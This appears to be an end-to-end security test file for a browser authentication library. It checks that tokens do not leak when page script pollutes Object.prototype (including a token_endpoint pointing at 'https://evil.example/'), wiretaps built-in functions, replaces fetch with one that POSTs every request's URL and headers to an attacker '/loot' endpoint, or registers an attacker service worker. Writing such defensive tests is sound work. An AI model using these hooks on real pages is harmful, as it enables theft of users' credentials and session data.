/**
 * Script in the page changes what the library stands on: the language's own objects, `fetch`, constructors, event targets; and
 * it puts a service worker between page and network.
 */
import assert from 'node:assert/strict';
import { describeAttacks } from './support/attacks.mjs';

/** Members of every object that the vault, or the platform, might take for options. */
const polluteObjects = () => {
  const members = {
    ...{
      redirect: 'follow',
      mode: 'no-cors',
      credentials: 'include',
      resources: ['*'],
      exposeAccessToken: true,
    },
    ...{
      scope: 'everything',
      metadata: { token_endpoint: 'https://evil.example/' },
      access_token: 'x',
      audience: 'x',
    },
    ...{ isRepeatable: true, identity: { user: { sub: 'x' } }, handled: false },
  };
  for (const [name, value] of Object.entries(members)) {
    Object.defineProperty(Object.prototype, name, { value, writable: true, configurable: true });
  }
};

/** Each function goes on working, and tells the probe what it is given and what it makes of it. */
const wiretap = () => {
  const { note } = window.__probe;
  const { then } = Promise.prototype;
  const { apply } = Reflect;
  let isBusy = false;
  const tell = (where, value) => {
    if (isBusy || window.__isOver) return value;
    isBusy = true;
    note(where, value);
    isBusy = false;
    return value;
  };
  const tap = (object, names) => {
    for (const name of names) {
      const original = object[name];
      Object.defineProperty(object, name, {
        configurable: true,
        writable: true,
        value(...given) {
          tell(name, given);
          return tell(`${name}: result`, apply(original, this, given));
        },
      });
    }
  };
  tap(Array.prototype, ['map', 'filter', 'every', 'some', 'concat', 'includes']);
  tap(Object, ['assign', 'entries', 'fromEntries']);
  tap(Map.prototype, ['get', 'set', 'delete']);
  tap(EventTarget.prototype, ['addEventListener']);
  tap(ReadableStream.prototype, ['getReader']);
  const { call } = Function.prototype;
  Function.prototype.call = function (self, ...given) {
    tell('call', given);
    return apply(call, this, [self, ...given]);
  };
  for (const line of [Worker.prototype, MessagePort.prototype]) {
    let prototype = line;
    while (!Object.hasOwn(prototype, 'onmessage')) prototype = Object.getPrototypeOf(prototype);
    const { set, get } = Object.getOwnPropertyDescriptor(prototype, 'onmessage');
    Object.defineProperty(prototype, 'onmessage', {
      get,
      set(listener) {
        apply(set, this, [(event) => listener(tell('onmessage', event))]);
      },
    });
  }
  Promise.prototype.then = function (...uses) {
    const tapped = uses.map((use) => (typeof use === 'function' ? (value) => use(tell('then', value)) : use));
    return apply(then, this, tapped);
  };
};

/** `fetch` of the page, and its constructors, are the attacker's: whatever comes that way goes to its server. */
const stealFetch = (url) => {
  const { fetch } = window;
  window.fetch = (...args) => {
    const request = new window.Request(...args);
    return fetch(url, { method: 'POST', body: JSON.stringify([request.url, [...request.headers]]) });
  };
};

/** A session of the app's in such a page: calls and a refresh. */
const live = async (scene) => {
  const { world, page } = scene;
  const before = await scene.call();
  world.refuse(world.secrets.last('access token'));
  const after = await scene.call();
  const claims = await page.run(() => window.auth.user()?.name ?? 'nobody');
  return `${before}, ${after}, ${claims}`;
};

describeAttacks('a page whose ground is not its own', (attack, scene) => {
  const beforeLoad = async (attackIt, use) => {
    const { page } = scene;
    await page.run((source) => localStorage.setItem('attack-before-load', source), String(attackIt));
    try {
      await page.open('/start');
      return await use();
    } finally {
      await page.driver.executeScript(
        "window.__isOver = true; localStorage.removeItem('attack-before-load')",
      );
      await page.open('/start');
    }
  };
  const afterLoad = (attackIt, ...args) =>
    scene.page.run((source, given) => (0, eval)(`(${source})`)(...given), String(attackIt), args);

  /** A call to the attacker's server, by the app's client and by a second one. */
  const callAttacker = async () => {
    const { page, attacker } = scene;
    const codes = await page.run(
      async (url, options) => {
        const code = ({ status, code, name }) => status ?? code ?? name;
        const codes = [window.auth ? await window.auth.fetch(url).then(code, code) : window.e2e.error.code];
        const second = await window.e2e.createAuthClient(options).catch(code);
        codes.push(second.fetch ? await second.fetch(url).then(code, code) : second);
        return codes;
      },
      `${attacker.origin}/`,
      scene.options({ host: 'dedicated' }),
    );
    assert.deepEqual(attacker.requests, []);
    // Some browsers take a polluted prototype for options of the worker, and start none.
    for (const code of codes) assert.match(code, /^(resource_not_allowed|worker_failed|invalid_options)$/);
    return 'nothing went to the attacker';
  };

  attack('Object.prototype polluted, before the library loads', () =>
    beforeLoad(polluteObjects, callAttacker),
  );

  attack('Object.prototype polluted, while the app runs', async () => {
    await afterLoad(polluteObjects);
    const happened = await callAttacker();
    await scene.page.open('/start');
    return happened;
  });

  attack('everything that the library calls replaced by a wiretap, before it loads', () =>
    beforeLoad(wiretap, () => live(scene)),
  );

  attack('everything that the library calls replaced by a wiretap, while the app runs', async () => {
    await afterLoad(wiretap);
    return live(scene);
  });

  attack('the fetch of the page replaced by one that sends everything to the attacker', async () => {
    await afterLoad(stealFetch, `${scene.attacker.origin}/loot`);
    const happened = await live(scene);
    assert.deepEqual(scene.attacker.requests, []);
    return happened;
  });

  attack('a service worker of the attacker for the whole origin, beside the escrow', async () => {
    const { page } = scene;
    await page.run(async () => {
      await navigator.serviceWorker.register('/attacker-service-worker.js', { scope: '/' });
      await navigator.serviceWorker.ready;
    });
    await page.open('/start');
    await page.run(() => {
      window.loot = [];
      new BroadcastChannel('loot').onmessage = ({ data }) => {
        window.loot.push(data);
        window.__probe.note('seen by the service worker', data);
      };
    });
    // The control: it does see what the page requests.
    await page.run(async () => {
      await fetch('/setup.html', { headers: { 'x-control': 'seen' } });
      while (!window.loot.some(({ headers }) => headers.some(([name]) => name === 'x-control')))
        await new Promise((resolve) => setTimeout(resolve, 10));
    });
    if (!(await page.run(() => window.auth.checkSession()))) await page.signIn();
    const happened = await live(scene);
    await page.run(async () => {
      for (const { scope, unregister } of await navigator.serviceWorker.getRegistrations())
        void [scope, unregister];
      const registration = await navigator.serviceWorker.getRegistration('/');
      await registration.unregister();
    });
    return happened;
  });
});
